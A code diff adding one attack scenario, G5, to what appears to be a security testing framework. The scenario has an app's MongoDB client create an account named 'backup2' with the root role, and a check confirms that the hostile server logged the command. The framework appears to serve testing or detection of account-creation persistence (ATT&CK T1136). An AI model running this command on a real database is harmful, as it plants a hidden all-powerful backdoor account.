@@ -1,0 +1,25 @@
+"""G5: an account of the attacker's is made in MongoDB, with all rights."""
+
+from backwatch.attack.protocols.server import HostileServer
+from backwatch.attack.scenarios import SECRET
+from backwatch.attack.techniques.mongodb import AbusedMongoDB
+
+
+class MongodbAddsAccount(AbusedMongoDB):
+    """On PyMongo, in an app whose account may do everything."""
+
+    code = "G5"
+    attack = "makes an account of the attacker's that may do everything"
+    reference = "https://www.mongodb.com/docs/manual/reference/command/createUser/; ATT&CK T1136"
+    rule = "privilege-change"
+
+    def meet(self) -> object:
+        """The attacker makes it."""
+        self.client()["shop"].command("createUser", "backup2", pwd=SECRET, roles=[{"role": "root", "db": "admin"}])
+        return None
+
+    @classmethod
+    def succeeded(cls, service: HostileServer, got: object) -> bool:
+        """The service was told to, and did not refuse."""
+        del got
+        return b"createUser backup2" in service.kept
